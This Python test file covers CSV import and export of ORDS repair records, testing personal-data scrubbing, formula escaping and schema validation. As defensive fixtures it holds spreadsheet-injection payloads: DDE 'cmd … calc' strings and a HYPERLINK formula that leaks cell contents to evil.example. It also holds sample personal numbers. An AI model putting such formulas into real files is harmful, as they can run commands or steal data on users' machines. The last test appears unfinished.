"""ORDS v0.3 CSV: personal data scrubbed and formulas escaped on export, every row of an
upload checked, and the files we write valid for the reference Frictionless validator."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
from collections import Counter
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from frictionless import Report, Schema, validate

from app.config import PROJECT_ROOT
from app.render.csv import escape_formula
from app.render.ords import ords_csv_lines
from app.services.ords import (
    FREE_TEXT_FIELDS,
    MAX_ROW_ERRORS,
    ORDS_FIELDS,
    ORDS_PRODUCT_CATEGORIES,
    OrdsFileError,
    OrdsRecord,
    OrdsRowError,
    RepairBarrier,
    RepairStatus,
    parse_ords_csv,
    scrub_problem,
)

SAMPLE = PROJECT_ROOT / "tests" / "fixtures" / "ords_sample.csv"
SCHEMA = PROJECT_ROOT / "data" / "ords_v0.3_schema.json"
CATEGORIES = PROJECT_ROOT / "data" / "ords_product_categories.csv"
HEADER = ",".join(ORDS_FIELDS)
EMPTY_QUOTED = re.compile(r'(?<=,)""(?=,|$)', re.MULTILINE)


def make_record(**changes: Any) -> OrdsRecord:
    values: dict[str, Any] = {
        "id": "sirkel_1",
        "data_provider": "Sirkel",
        "country": "NOR",
        "partner_product_category": "Kaffetrakter",
        "product_category": "Coffee maker",
        "product_category_id": 36,
        "brand": "Moccamaster",
        "year_of_manufacture": 2015,
        "product_age": Decimal("9"),
        "repair_status": RepairStatus.FIXED,
        "repair_barrier_if_end_of_life": None,
        "group_identifier": "Reparasjonskafé Grünerløkka",
        "event_date": date(2024, 3, 16),
        "problem": "Varmer ikke; byttet termostat.",
    }
    values.update(changes)
    return OrdsRecord(**values)


def export(records: list[OrdsRecord]) -> str:
    return "".join(ords_csv_lines(records))


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def sample_row(**changes: str) -> dict[str, str]:
    row = {
        "id": "sirkel_1",
        "data_provider": "Sirkel",
        "country": "NOR",
        "partner_product_category": "Kaffetrakter",
        "product_category": "Coffee maker",
        "product_category_id": "36",
        "brand": "Moccamaster",
        "year_of_manufacture": "2015",
        "product_age": "9",
        "repair_status": "Fixed",
        "repair_barrier_if_end_of_life": "",
        "group_identifier": "Reparasjonskafé",
        "event_date": "2024-03-16",
        "problem": "Varmer ikke",
    }
    row.update(changes)
    return row


def csv_bytes(rows: list[dict[str, str]], fieldnames: tuple[str, ...] = ORDS_FIELDS) -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=fieldnames, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode()


def frictionless_report(path: Path) -> Report:
    """Validate ``path`` with the reference validator against the shipped ORDS schema.

    The schema is given as a dict (a path outside ``basepath`` would be refused as unsafe),
    the data as a name relative to ``basepath``.
    """
    schema = Schema.from_descriptor(json.loads(SCHEMA.read_text(encoding="utf-8")))
    report: Report = validate(path.name, schema=schema, basepath=str(path.parent))
    return report


# --- Constants -----------------------------------------------------------------------------


def test_the_product_categories_are_those_of_the_shipped_list() -> None:
    with CATEGORIES.open(encoding="utf-8", newline="") as file:
        shipped = tuple((int(row["id"]), row["name"]) for row in csv.DictReader(file))
    assert shipped == ORDS_PRODUCT_CATEGORIES
    assert len(ORDS_PRODUCT_CATEGORIES) == 40


def test_the_product_categories_are_those_of_the_schema() -> None:
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    by_name = {f["name"]: f for f in schema["fields"]}
    enum = by_name["product_category"]["constraints"]["enum"]
    assert enum == [name for _, name in ORDS_PRODUCT_CATEGORIES]


def test_the_fields_are_the_ords_columns_of_the_schema_and_of_the_record() -> None:
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    assert tuple(f["name"] for f in schema["fields"]) == ORDS_FIELDS
    assert tuple(f.name for f in dataclasses.fields(OrdsRecord)) == ORDS_FIELDS
    assert len(ORDS_FIELDS) == 14
    assert set(ORDS_FIELDS) > FREE_TEXT_FIELDS


def test_the_enums_are_spelled_as_the_schema_says() -> None:
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    by_name = {f["name"]: f for f in schema["fields"]}
    assert [s.value for s in RepairStatus] == ["Fixed", "Repairable", "End of life", "Unknown"]
    assert [s.value for s in RepairStatus] == by_name["repair_status"]["constraints"]["enum"]
    assert [b.value for b in RepairBarrier] == [
        "Spare parts not available",
        "Spare parts too expensive",
        "No way to open product",
        "Repair information not available",
        "Lack of equipment",
        "Item too worn out",
    ]
    barrier = by_name["repair_barrier_if_end_of_life"]["constraints"]["enum"]
    assert [b.value for b in RepairBarrier] == barrier


# --- scrub_problem -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # E-mail addresses
        ("kari.nordmann@gmail.com", "[e-mail]"),
        ("Skriv til ola+reparasjon@eksempel.no!", "Skriv til [e-mail]!"),
        ("Eier: bjørn.ærlig@sørlandet.no", "Eier: [e-mail]"),
        ("mail kari1990@hotmail.com eller ring", "mail [e-mail] eller ring"),
        # URLs
        ("Se https://www.elkjop.no/produkt/123456?x=1.", "Se [url]."),
        ("(se http://www.gatwood.net/odds_and_ends/ge_lights.html)", "(se [url])"),
        ("Bilder: www.dropbox.com/s/abc123, takk", "Bilder: [url], takk"),
        ("HTTPS://EXAMPLE.COM/kari", "[url]"),
        ("ftp://files.example.org/manual.pdf", "[url]"),
        ("Annonsen: finn.no/bap/12345678", "Annonsen: [url]"),
        ("example.com/path", "[url]"),
        ("min side kari-nordmann.no", "min side [url]"),
        ("kjøpt på komplett.no", "kjøpt på [url]"),
        # Norwegian phone numbers
        ("Ring meg på 912 34 567 etter kl. 16", "Ring meg på [phone] etter kl. 16"),
        ("91234567", "[phone]"),
        ("22 12 34 56", "[phone]"),
        ("912 34567", "[phone]"),
        ("9123 4567", "[phone]"),
        ("912-34-567", "[phone]"),
        ("tlf91234567", "tlf[phone]"),
        ("Ring 412 34 567.", "Ring [phone]."),
        ("tlf +47 91234567", "tlf [phone]"),
        ("tlf: +47 912 34 567.", "tlf: [phone]."),
        ("0047 912 34 567", "[phone]"),
        ("+4791234567", "[phone]"),
        # International phone numbers
        ("Call +44 20 7946 0958 today", "Call [phone] today"),
        ("+44 (0)20 7946 0958", "[phone]"),
        ("+1 555 123 4567", "[phone]"),
        ("(555) 123-4567", "[phone]"),
        ("555-123-4567", "[phone]"),
        ("+46 8 123 456 78", "[phone]"),
        # British numbers as written at home
        ("ring 07700 900123", "ring [phone]"),
        ("Tel 01632 960123 after 5", "Tel [phone] after 5"),
        ("029 2018 0000", "[phone]"),
        # Personal numbers
        ("Kontonr 1234.56.78903", "Kontonr [number]"),
        ("Kontonummer 1234 56 78903", "Kontonummer [number]"),
        ("konto 12345678903", "konto [number]"),  # a valid control digit
        ("fnr 01019012345", "fnr [number]"),  # a day and a month: a fødselsnummer
        ("D-nummer 41019012345", "D-nummer [number]"),
        ("personnummer 010190 12345", "personnummer [number]"),
        ("født 01.01.1990 12345", "født [number]"),
        ("IMEI 356938035643809", "IMEI [number]"),
        ("kort 4111 1111 1111 1111", "kort [number]"),
        ("4111111111111111", "[number]"),
        # Several at once, with Norwegian text around them
        (
            "Hei! Jeg heter Åse, ring 934 56 789 eller skriv åse@øya.no — konto 1234.56.78903",
            "Hei! Jeg heter Åse, ring [phone] eller skriv [e-mail] — konto [number]",
        ),
        # Control characters become a space; the result is trimmed
        ("linje1\nlinje2", "linje1 linje2"),
        ("linje1\r\nlinje2", "linje1 linje2"),
        ("\tfane\tog\x0bvtab", "fane og vtab"),
        ("  \x00nul\x7f ", "nul"),
        ("avsnitt\u2028neste\u2029siste\x85", "avsnitt neste siste"),
        ("   ", ""),
        ("", ""),
    ],
)
def test_scrub_problem_replaces_personal_data(text: str, expected: str) -> None:
    assert scrub_problem(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "Kjøpt i 2019, 11 år gammel",
        "Sony WF-1000XM4 hodetelefoner, venstre ørepropp død",
        "Prøvd 3 ganger, 2 batterier byttet",
        "Model KD-55XF9005",
        "iPhone 12 Pro, skjerm knust",
        "3.5 mm jack løs",
        "230 V, 50 Hz, 1800 W",
        "Brukt 2019-2020 på hytta",
        "Virket 2015–2021",  # noqa: RUF001 - an en dash, as people type it
        "kjøpt 12.05.2019",
        "kjøpt 12.05.19",
        "garanti til 2021-03-01",
        "kostet 12 500 kr",
        "kostet 125 000 kr",
        "kostet kr 125 000",
        "kostet 1 250 000,-",
        "125000 NOK",
        "pris 1999,50 kr",
        "f.eks. batteri, bl.a. lader",
        "Se manual.pdf side 12",
        "versjon v1.2/3",
        "+3 ganger",
        "C++ 2019",
        "It’s 50% off",  # noqa: RUF001 - the curly apostrophe of the published data
        "Ærfugl, øl og ål: æøå ÆØÅ",
        "Needed new battery. . .",
        "mellom 2018 og 2020",
        "12345",
        # Numbers that name products, parts, versions and ranges are repair context.
        "Morphy Richards 330215 kettle, lid broken",
        "needs part number 427694",
        "Modell 54321678 fra Bosch",  # eight digits after a product word: not a phone
        "win 10 1803 will not boot",
        "input 300-400V",
        "serienr SN123456789",
        "EAN 7311271234567",
        "ordre #123-456",
        "org.nr 923 609 016",
        "kode 123456",
        "012 34 567",
        "vipps 12345678901",  # eleven digits, neither a date nor a control digit
        # A missing space is no link.
        "not working.no power",
        "sjekk finn.no for deler",
    ],
)
def test_scrub_problem_keeps_ordinary_text(text: str) -> None:
    assert scrub_problem(text) == text


def test_scrub_problem_keeps_the_published_problems_but_their_url() -> None:
    result = parse_ords_csv(SAMPLE.read_bytes())
    changed = {
        record.id: scrub_problem(record.problem)
        for record in result.records
        if record.problem is not None and scrub_problem(record.problem) != record.problem
    }
    assert list(changed) == ["fixitclinic_1186"]
    assert "following these instructions: [url] You can try" in changed["fixitclinic_1186"]


# --- escape_formula ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Moccamaster", "Moccamaster"),
        ("Reparasjon = moro", "Reparasjon = moro"),
        ("'=allerede", "'=allerede"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_escape_formula(value: str, expected: str) -> None:
    assert escape_formula(value) == expected


# --- ords_csv_lines ------------------------------------------------------------------------


def test_the_export_starts_with_the_header_and_has_one_line_per_record() -> None:
    lines = list(ords_csv_lines([make_record(), make_record(id="sirkel_2")]))
    assert lines[0] == HEADER + "\n"
    assert len(lines) == 3
    assert lines[1] == (
        "sirkel_1,Sirkel,NOR,Kaffetrakter,Coffee maker,36,Moccamaster,2015,9,Fixed,,"
        "Reparasjonskafé Grünerløkka,2024-03-16,Varmer ikke; byttet termostat.\n"
    )


def test_no_records_give_the_header_only() -> None:
    assert export([]) == HEADER + "\n"


def test_missing_values_are_empty_cells() -> None:
    record = make_record(
        brand=None,
        year_of_manufacture=None,
        product_age=None,
        group_identifier=None,
        problem=None,
    )
    (row,) = rows_of(export([record]))
    for column in ("brand", "year_of_manufacture", "product_age", "group_identifier"):
        assert row[column] == ""
    assert row["problem"] == ""
    assert row["repair_barrier_if_end_of_life"] == ""


@pytest.mark.parametrize(
    ("age", "cell"),
    [
        (Decimal("11"), "11"),
        (Decimal("11.0"), "11"),
        (Decimal("11.00"), "11"),
        (11.0, "11"),
        (0, "0"),
        (Decimal("0"), "0"),
        (Decimal("2.5"), "2.5"),
        (2.5, "2.5"),
        (0.1, "0.1"),
        (Decimal("2.25"), "2.3"),
        (2.25, "2.3"),
        (Decimal("0.95"), "1"),
        (Decimal("1E+1"), "10"),
        (120, "120"),
    ],
)
def test_product_age_is_written_without_a_trailing_zero(age: Decimal | float, cell: str) -> None:
    (row,) = rows_of(export([make_record(product_age=age)]))
    assert row["product_age"] == cell


def test_lines_end_in_lf_and_cells_are_quoted_as_rfc_4180_says() -> None:
    record = make_record(
        brand='Philips "Senseo", 2nd gen',
        group_identifier="Line one\nline two",
        problem='Sa "pfft", så stille',
    )
    text = export([record])
    assert "\r" not in text
    assert '"Philips ""Senseo"", 2nd gen"' in text
    assert '"Line one\nline two"' in text
    assert '"Sa ""pfft"", så stille"' in text
    (row,) = rows_of(text)
    assert row["brand"] == 'Philips "Senseo", 2nd gen'
    assert row["group_identifier"] == "Line one\nline two"


def test_the_barrier_and_the_status_are_written_as_their_values() -> None:
    record = make_record(
        repair_status=RepairStatus.END_OF_LIFE,
        repair_barrier_if_end_of_life=RepairBarrier.ITEM_TOO_WORN_OUT,
    )
    (row,) = rows_of(export([record]))
    assert row["repair_status"] == "End of life"
    assert row["repair_barrier_if_end_of_life"] == "Item too worn out"


def test_the_problem_is_scrubbed_and_free_text_is_escaped() -> None:
    record = make_record(
        data_provider="-Sirkel",
        partner_product_category="+Kaffe",
        brand='=HYPERLINK("http://evil.example","klikk")',
        group_identifier="@kafé",
        problem="=1+1 ring 912 34 567 eller kari@eksempel.no",
    )
    (row,) = rows_of(export([record]))
    assert row["data_provider"] == "'-Sirkel"
    assert row["partner_product_category"] == "'+Kaffe"
    assert row["brand"] == '\'=HYPERLINK("http://evil.example","klikk")'
    assert row["group_identifier"] == "'@kafé"
    assert row["problem"] == "'=1+1 ring [phone] eller [e-mail]"


def test_a_problem_starting_with_a_tab_is_trimmed_before_it_is_escaped() -> None:
    (row,) = rows_of(export([make_record(problem="\t\r\n=cmd|'/C calc'!A0")]))
    assert row["problem"] == "'=cmd|'/C calc'!A0"


def test_only_the_problem_is_scrubbed() -> None:
    (row,) = rows_of(export([make_record(brand="Samsung 12345678", problem=None)]))
    assert row["brand"] == "Samsung 12345678"


def test_the_export_is_lazy() -> None:
    def records() -> Iterator[OrdsRecord]:
        yield make_record()
        raise AssertionError("read too far")

    lines = ords_csv_lines(records())
    assert next(lines) == HEADER + "\n"
    assert next(lines).startswith("sirkel_1,")


# --- OrdsRecord ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "column"),
    [
        ({"id": ""}, "id"),
        ({"id": "Sirkel_1"}, "id"),
        ({"id": "sirkel1"}, "id"),
        ({"id": "sirkel_1a"}, "id"),
        ({"data_provider": "  "}, "data_provider"),
        ({"partner_product_category": ""}, "partner_product_category"),
        ({"country": "NO"}, "country"),
        ({"country": "nor"}, "country"),
        ({"product_category": "Kaffetrakter"}, "product_category"),
        ({"product_category_id": 37}, "product_category_id"),
        ({"year_of_manufacture": 999}, "year_of_manufacture"),
        ({"year_of_manufacture": 20190}, "year_of_manufacture"),
        ({"product_age": -1}, "product_age"),
        ({"product_age": float("nan")}, "product_age"),
        ({"product_age": Decimal("Infinity")}, "product_age"),
        ({"repair_status": "Fixed"}, "repair_status"),
        ({"repair_barrier_if_end_of_life": "Lack of equipment"}, "repair_barrier_if_end_of_life"),
        ({"event_date": datetime(2024, 3, 16, 12, 0)}, "event_date"),  # noqa: DTZ001
        ({"event_date": "2024-03-16"}, "event_date"),
    ],
)
def test_an_invalid_record_cannot_be_made(changes: dict[str, Any], column: str) -> None:
    with pytest.raises(ValueError, match=rf"invalid ORDS record .*\b{column} "):
        make_record(**changes)


def test_every_problem_of_a_record_is_named() -> None:
    with pytest.raises(ValueError, match=r"id .*; country .*; product_category_id ") as error:
        make_record(id="X", country="Norge", product_category_id=1)
    assert "must be 36, the id of 'Coffee maker'" in str(error.value)


def test_records_are_frozen() -> None:
    record = make_record()
    with pytest.raises(dataclasses.FrozenInstanceError):
        record.id = "sirkel_2"  # type: ignore[misc]


# --- parse_ords_csv: the published sample --------------------------------------------------


def test_the_published_sample_is_read_whole() -> None:
    result = parse_ords_csv(SAMPLE.read_bytes())
    assert result.errors == []
    assert result.error_count == 0
    assert result.valid
    assert len(result.records) == 50
    assert Counter(record.repair_status for record in result.records) == {
        RepairStatus.REPAIRABLE: 17,
        RepairStatus.UNKNOWN: 15,
        RepairStatus.FIXED: 12,
        RepairStatus.END_OF_LIFE: 6,
    }
    assert len({record.product_category for record in result.records}) == 19


def test_a_record_of_the_published_sample() -> None:
    records = {r.id: r for r in parse_ords_csv(SAMPLE.read_bytes()).records}
    record = records["fixitclinic_1690"]
    assert record.data_provider == "Fixit Clinic"
    assert record.country == "USA"
    assert record.partner_product_category == "Food processor"
    assert record.product_category == "Food processor"
    assert record.product_category_id == 37
    assert record.brand == "Cuisinart"
    assert record.year_of_manufacture == 2009
    assert record.product_age == 11
    assert record.repair_status is RepairStatus.UNKNOWN
    assert record.repair_barrier_if_end_of_life is None
    assert record.group_identifier == "Fixit Clinic"
    assert record.event_date == date(2020, 1, 1)
    assert record.problem is not None
    assert record.problem.startswith("I hadn’t used it in a year, and when")  # noqa: RUF001


def test_the_sample_empties_are_none_and_unknown_brands_are_kept() -> None:
    records = {r.id: r for r in parse_ords_csv(SAMPLE.read_bytes()).records}
    tablet = records["fixitclinic_1416"]
    assert tablet.year_of_manufacture is None
    assert tablet.product_age is None
    assert tablet.repair_barrier_if_end_of_life is None
    assert tablet.problem == "needed new battery. . ."
    assert sum(r.brand == "Unknown" for r in records.values()) >= 1
    assert records["fixitclinic_2115"].repair_barrier_if_end_of_life is (
        RepairBarrier.SPARE_PARTS_TOO_EXPENSIVE
    )


def test_the_published_sample_is_valid_for_the_reference_validator() -> None:
    report = frictionless_report(SAMPLE)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


# --- parse_ords_csv: encodings, header, layout ---------------------------------------------


def test_a_byte_order_mark_is_accepted() -> None:
    result = parse_ords_csv(b"\xef\xbb\xbf" + SAMPLE.read_bytes())
    assert result.valid
    assert len(result.records) == 50


def test_the_columns_may_come_in_any_order() -> None:
    reordered = tuple(reversed(ORDS_FIELDS))
    result = parse_ords_csv(csv_bytes([sample_row()], fieldnames=reordered))
    assert result.errors == []
    (record,) = result.records
    assert record.id == "sirkel_1"
    assert record.problem == "Varmer ikke"
    assert record.product_category_id == 36


def test_crlf_line_ends_and_blank_lines_are_accepted() -> None:
    raw = csv_bytes([sample_row(), sample_row(id="sirkel_2")]).replace(b"\n", b"\r\n")
    result = parse_ords_csv(raw + b"\r\n\r\n")
    assert result.valid
    assert [r.id for r in result.records] == ["sirkel_1", "sirkel_2"]


def test_norwegian_text_is_read_as_written() -> None:
    row = sample_row(brand="Bjørn & Søn", problem="Lokket går ikke på; ærlig talt")
    (record,) = parse_ords_csv(csv_bytes([row])).records
    assert record.brand == "Bjørn & Søn"
    assert record.problem == "Lokket går ikke på; ærlig talt"


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        ("Kaffetrakter går ikke".encode("latin-1"), "not UTF-8"),
        (HEADER.encode("utf-16"), "not UTF-8"),
        (b"", "empty"),
        (b"\n\n", "empty"),
        (b",,,\n", "empty"),
        (HEADER.replace(",problem", "").encode() + b"\n", "missing: 'problem'"),
        ((HEADER + ",kommune").encode() + b"\n", "not ORDS v0.3: 'kommune'"),
        ((HEADER + ",brand").encode() + b"\n", "repeated: 'brand'"),
        (HEADER.replace("country", "Country").encode() + b"\n", "missing: 'country'"),
        (
            b"fixitclinic_1,Fixit Clinic,USA,Fan,Fan,7,,,,Fixed,,,2020-01-01,x\n",
            "must be the header",
        ),
        ((HEADER + '\nsirkel_1,"Sirkel\n').encode(), "cannot be read"),
        ((HEADER + '\nsirkel_1,"Sir"kel,NOR\n').encode(), "cannot be read"),
        ((HEADER + "\nsirkel_1,Sir\x00kel\n").encode(), "NUL characters"),
    ],
)
def test_a_file_that_is_not_ords_is_refused(raw: bytes, message: str) -> None:
    with pytest.raises(OrdsFileError, match=message) as error:
        parse_ords_csv(raw)
    assert error.value.status_code == 422
    assert error.value.code == "invalid_ords_file"
    assert error.value.message == error.value.detail


def test_too_many_rows_are_refused() -> None:
    rows = [sample_row(id=f"sirkel_{n}") for n in range(4)]
    assert len(parse_ords_csv(csv_bytes(rows), max_rows=4).records) == 4
    with pytest.raises(OrdsFileError, match="more than 3 rows"):
        parse_ords_csv(csv_bytes(rows), max_rows=3)


# --- parse_ords_csv: row errors ------------------------------------------------------------


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("id", "", "is required"),
        ("id", "Sirkel_1", "lower-case provider prefix"),
        ("id", "sirkel 1", "lower-case provider prefix"),
        ("id", "1_sirkel", "lower-case provider prefix"),
        ("data_provider", "", "is required"),
        ("data_provider", "   ", "is required"),
        ("country", "", "three-letter"),
        ("country", "NO", "three-letter"),
        ("country", "Nor", "three-letter"),
        ("partner_product_category", "", "is required"),
        ("product_category", "", "one of the 40 ORDS product categories"),
        ("product_category", "coffee maker", "one of the 40 ORDS product categories"),
        ("product_category", "Kaffetrakter", "one of the 40 ORDS product categories"),
        ("product_category_id", "", "is required"),
        ("product_category_id", "36.0", "whole number"),
        ("product_category_id", "37", "must be 36, the id of 'Coffee maker'"),
        ("product_category_id", "0", "must be 36"),
        ("year_of_manufacture", "15", "four-digit year"),
        ("year_of_manufacture", "2015.0", "four-digit year"),
        ("year_of_manufacture", "0999", "four-digit year"),
        ("year_of_manufacture", "MMXV", "four-digit year"),
        ("product_age", "ni", "number of years"),
        ("product_age", "1e3", "number of years"),
        ("product_age", "NaN", "number of years"),
        ("product_age", "9 år", "number of years"),
        ("product_age", "-1", "must not be negative"),
        ("repair_status", "", "one of: Fixed, Repairable, End of life, Unknown"),
        ("repair_status", "fixed", "one of: Fixed, Repairable, End of life, Unknown"),
        ("repair_status", "Fixd", "one of: Fixed, Repairable, End of life, Unknown"),
        ("repair_barrier_if_end_of_life", "Too worn out", "empty or one of: Spare parts"),
        ("event_date", "", "is required"),
        ("event_date", "16.03.2024", "yyyy-mm-dd"),
        ("event_date", "2024-02-30", "yyyy-mm-dd"),
        ("event_date", "20240316", "yyyy-mm-dd"),
        ("event_date", "2024-03-16T10:00", "yyyy-mm-dd"),
    ],
)
def test_each_kind_of_row_error(column: str, value: str, message: str) -> None:
    bad = {**sample_row(id="sirkel_2"), column: value}
    result = parse_ords_csv(csv_bytes([sample_row(), bad, sample_row(id="sirkel_3")]))
    assert [r.id for r in result.records] == ["sirkel_1", "sirkel_3"]
    (error,) = result.errors
    assert error.line == 3
    assert error.column == column
    assert message in error.message
    assert result.error_count == 1
    assert not result.valid


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("brand", ""),
        ("brand", "Unknown"),
        ("year_of_manufacture", ""),
        ("product_age", ""),
        ("product_age", "0"),
        ("product_age", "2.5"),
        ("product_age", "11.0"),
        ("repair_barrier_if_end_of_life", ""),
        ("repair_barrier_if_end_of_life", "Lack of equipment"),
        ("group_identifier", ""),
        ("problem", ""),
        ("id", "restartproject-1234"),
        ("id", "repaircafe2_7"),
    ],
)
def test_optional_and_unusual_values_are_accepted(column: str, value: str) -> None:
    result = parse_ords_csv(csv_bytes([sample_row(**{column: value})]))
    assert result.errors == []
    assert len(result.records) == 1


def test_a_repeated_id_is_an_error_on_the_later_line() -> None:
    rows = [sample_row(), sample_row(id="sirkel_2"), sample_row(problem="Igjen")]
    result = parse_ords_csv(csv_bytes(rows))
    assert [r.id for r in result.records] == ["sirkel_1", "sirkel_2"]
    assert result.errors == [OrdsRowError(4, "id", "repeats the id on line 2")]


def test_a_row_with_the_wrong_number_of_cells_is_an_error() -> None:
    raw = csv_bytes([sample_row()]) + b"sirkel_2,Sirkel,NOR\n" + b"a,b" + b",x" * 14 + b"\n"
    result = parse_ords_csv(raw)
    assert len(result.records) == 1
    assert result.errors == [
        OrdsRowError(3, None, "has 3 cells; the header has 14"),
        OrdsRowError(4, None, "has 16 cells; the header has 14"),
    ]


def test_every_error_of_a_row_is_reported_and_parsing_goes_on() -> None:
    rows = [
        sample_row(id="X", country="Norge", repair_status="OK"),
        sample_row(id="sirkel_2"),
        sample_row(id="sirkel_3", event_date="i går"),
    ]
    result = parse_ords_csv(csv_bytes(rows))
    assert [r.id for r in result.records] == ["sirkel_2"]
    assert [(e.line, e.column) for e in result.errors] == [
        (2, "id"),
        (2, "country"),
        (2, "repair_status"),
        (4, "event_date"),
    ]


def test_line_numbers_count_the_lines_of_multi_line_cells() -> None:
    rows = [sample_row(problem="første\nandre\ntredje"), sample_row(id="sirkel_2", country="")]
    (error,) = parse_ords_csv(csv_bytes(rows)).errors
    assert error == OrdsRowError(5, "country", error.message)


def test_the_error_list_is_capped_but_every_error_is_counted() -> None:
    rows = [sample_row(id=f"sirkel_{n}", country="X", repair_status="?") for n in range(80)]
    result = parse_ords_csv(csv_bytes([*rows, sample_row(id="sirkel_999")]))
    assert len(result.errors) == MAX_ROW_ERRORS
    assert result.error_count == 160
    assert result.errors[-1] == OrdsRowError(51, "repair_status", result.errors[-1].message)
    assert [r.id for r in result.records] == ["sirkel_999"]


# --- Round trip and the reference validator ------------------------------------------------


def test_written_records_are_read_back_equal() -> None:
    records = [
        make_record(),
        make_record(
            id="sirkel_2",
            brand=None,
            year_of_manufacture=None,
            product_age=Decimal("2.5"),
            repair_status=RepairStatus.END_OF_LIFE,
            repair_barrier_if_end_of_life=RepairBarrier.SPARE_PARTS_NOT_AVAILABLE,
            group_identifier=None,
            problem='Motoren, sa han, "er død". Kjøpt 2019 for 1 299 kr.',
        ),
        make_record(
            id="sirkel_3",
            product_category="Hi-Fi separates",
            product_category_id=13,
            partner_product_category="Forsterker, rør",
            product_age=Decimal("40"),
            repair_status=RepairStatus.REPAIRABLE,
            problem=None,
        ),
        *parse_ords_csv(SAMPLE.read_bytes()).records[:10],
    ]
    result = parse_ords_csv(export(records).encode())
    assert result.errors == []
    assert result.records == records


def test_the_published_sample_is_written_as_published_but_for_the_scrubbed_url() -> None:
    records = parse_ords_csv(SAMPLE.read_bytes()).records
    written = export(records).splitlines()
    # The published file quotes its empty cells (""); the csv module leaves them bare.
    published = EMPTY_QUOTED.sub("", SAMPLE.read_text(encoding="utf-8")).splitlines()
    differing = [
        line for line, original in zip(written, published, strict=True) if line != original
    ]
    assert len(differing) == 1
    assert differing[0].startswith("fixitclinic_1186,")


HOSTILE_PROBLEMS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    'Eier Kari Nordmann, kari.nordmann@gmail.com, "ring meg" på 912 34 567',
    "Ring +47 912 34 567 eller +44 20 7946 0958; se https://kari.example.no/bilder?id=1",
    "Kontonr 1234.56.78903, fnr 01019012345 — ærlig talt, «trøblete»",
    'Sitat: "Den sa ""pang""", så\nrøyk\r\nog\x00stille',
    "",
]


def hostile_records() -> list[OrdsRecord]:
    statuses = list(RepairStatus)
    return [
        make_record(
            id=f"sirkel_{n}",
            data_provider="=Sirkel" if n % 2 else "Sirkel, Norge",
            partner_product_category='+Kaffe "trakter"',
            brand="@Moccamaster\nTechnivorm",
            group_identifier="-Repair café, Bergen",
            repair_status=statuses[n % len(statuses)],
            repair_barrier_if_end_of_life=(
                RepairBarrier.LACK_OF_EQUIPMENT
                if statuses[n % len(statuses)] is RepairStatus.END_OF_LIFE
                else None
            ),
            product_age=[Decimal("11"), 2.5, None][n % 3],
            problem=problem,
        )
        for n, problem in enumerate(HOSTILE_PROBLEMS, start=1)
    ]


def test_a_hostile_export_has_no_formula_and_no_personal_data() -> None:
    text = export(hostile_records())
    rows = rows_of(text)
    assert len(rows) == len(HOSTILE_PROBLEMS)
    for row in rows:
        for column in FREE_TEXT_FIELDS:
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]
        assert "\n" not in row["problem"]
        assert "\r" not in row["problem"]
        assert "\x00" not in row["problem"]
    problems = "\n".join(row["problem"] for row in rows)
    for secret in ("kari.nordmann@gmail.com", "912 34 567", "7946", "kari.example.no", "78903"):
        assert secret not in problems
    assert "01019012345" not in problems
    assert "ærlig talt, «trøblete»" in problems
    assert rows[9]["problem"] == 'Sitat: "Den sa ""pang""", så røyk og stille'


def test_a_hostile_export_is_valid_for_the_reference_validator(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_text(export(hostile_records()), encoding="utf-8", newline="")
    report = frictionless_report(path)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert report.tasks[0].stats["rows"] == len(HOSTILE_PROBLEMS)


def test_a_misspelled_status_is_invalid_for_the_reference_validator(tmp_path: Path) -> None:
    rows = rows_of(export(hostile_records()))
    assert rows[0]["repair_status"] == "Repairable"
    rows[0]["repair_status"] = "Repairabel"
    path = tmp_path / "export.csv"
    path.write_bytes(csv_bytes(rows))
    report = frictionless_report(path)
    assert not report.valid
    assert report.flatten(["rowNumber", "fieldName", "type"]) == [
        [2, "repair_status", "constraint-error"]
    ]
    # And our own parser agrees.
    (error,) = parse_ords_csv(path.read_bytes()).errors
    assert (error.line, error.column) == (2, "repair_status")


def test_a_hostile_export_is_read_back_with_its_escapes() -> None:
    result = parse_ords_csv(export(hostile_records()).encode())
    assert result.errors == []
    first = result.records[0]
    assert first.data_provider == "'=Sirkel"
    assert first.brand == "'@Moccamaster\nTechnivorm"
    assert first.problem == '\'=HYPERLINK("[url]"&A1,"Klikk her")'


@pytest.mark.parametrize("newline", [b"\n", b"\r\n", b"\r"])
def test_a_bare_cr_inside_a_quoted_field_is_text_not_a_line_end(newline: bytes) -> None:
    """RFC 4180: a quoted field may hold line breaks; a lone CR is one too (old Mac exports),
    whatever the file's own line ends are."""
    lines = SAMPLE.read_bytes().split(b"\n")
    row = lines[1].replace(b"a year, and", b"a year,\r and")
    assert row != lines[1]
